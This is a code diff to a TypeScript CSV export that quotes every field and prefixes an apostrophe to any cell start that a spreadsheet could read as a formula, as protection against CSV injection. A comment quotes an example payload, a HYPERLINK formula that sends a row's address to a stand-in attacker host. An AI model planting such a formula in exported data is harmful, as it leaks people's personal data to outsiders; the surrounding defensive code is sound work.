@@ -1,16 +1,18 @@
-// RFC 4180 CSV: CRLF line ends; a field with a comma, quote, CR or LF is quoted, quotes doubled.
+// RFC 4180 CSV: CRLF line ends; every field quoted, quotes doubled.
 
 /**
- * What a spreadsheet reads as a formula: a field that starts with =, +, -, @, a tab or a CR. The
+ * Where a spreadsheet may read a formula: a cell that starts with =, +, -, @, a tab or a CR. The
  * export is opened in Excel or LibreOffice, and a description is anybody's text
- * ('=HYPERLINK("https://evil.example/?"&A2)' would send the row's address away), so such a field
- * gets a leading apostrophe, as OWASP's advice on CSV injection has it.
+ * ('=HYPERLINK("https://evil.example/?"&A2)' would send the row's address away). A cell starts at
+ * the start of a field, and also after a ; , tab or line break inside it, for a spreadsheet that
+ * splits on those (or is told to). Each such start gets an apostrophe, as OWASP's advice on CSV
+ * injection has it.
  */
-const FORMULA_START = /^[=+\-@\t\r]/;
+const CELL_STARTING_A_FORMULA = /(?<=^|[;,\t\r\n])(?=[=+\-@\t\r])/g;
 
 function csvField(value: string | null | undefined): string {
-  const text = FORMULA_START.test(value ?? '') ? `'${value}` : (value ?? '');
-  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
+  const text = (value ?? '').replace(CELL_STARTING_A_FORMULA, "'");
+  return `"${text.replace(/"/g, '""')}"`;
 }
 
 /** One record with its CRLF. */
